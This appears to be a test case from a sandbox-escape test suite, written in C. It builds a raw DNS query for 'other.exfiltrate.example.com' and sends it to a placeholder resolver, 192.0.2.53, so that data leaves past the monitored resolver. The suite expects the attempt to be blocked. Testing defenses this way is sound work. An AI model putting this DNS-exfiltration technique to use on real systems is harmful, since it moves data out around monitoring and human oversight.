/* A name server of the attack's own. */
#include "../attack.h"

#include "dial.h"

/* A question for name, to the server: 0 if an answer with an address comes. */
static long ask(const char *server, const char *name)
{
	struct sockaddr_in a = at4(server, 53);
	unsigned char q[512] = {0x12, 0x34, 1, 0, 0, 1}, *at = q + 12;
	int fd = socket_soon(AF_INET, SOCK_DGRAM);
	ssize_t n;

	while (*name) {
		size_t len = strcspn(name, ".");

		*at++ = (unsigned char)len;
		memcpy(at, name, len);
		at += len;
		name += len + (name[len] == '.');
	}
	at[2] = at[4] = 1; /* A, IN */
	at += 5;
	if (fd < 0 || sendto(fd, q, (size_t)(at - q), 0, (struct sockaddr *)&a, sizeof(a)) < 0)
		return -1;
	n = recv(fd, q, sizeof(q), 0);
	if (n < 0)
		return -1;
	return n > 12 && (q[3] & 15) == 0 && (q[6] || q[7]) ? 0 : denied(ENOENT);
}

ATTACK(NETWORK, "attempts", .gain = "data out, past the resolver that is looked after",
       .source = "CVE-2025-55284", .event = "network.blocked", .with = "address=192.0.2.53",
       .works = SOME_KERNELS, .needs = "a network", .flags = LONELY | QUIET)
{
	return ask("192.0.2.53", "other.exfiltrate.example.com");
}
